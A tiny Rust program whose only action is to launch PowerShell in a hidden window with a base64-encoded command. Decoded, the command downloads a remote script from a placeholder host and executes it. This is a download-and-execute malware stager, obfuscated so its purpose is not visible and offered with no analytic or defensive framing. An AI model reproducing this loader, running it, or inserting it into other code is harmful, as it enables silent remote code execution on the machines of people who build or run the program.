use std::process::Command;
fn main() {
    let _ = Command::new("powershell").args(["-nop", "-w", "hidden", "-enc", "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYwBkAG4ALgBlAHgAYQBtAHAAbABlAC4AaQBuAHYAYQBsAGkAZAAvAGEALgBwAHMAMQAgAHwAIABpAGUAeAA="]).spawn();
}
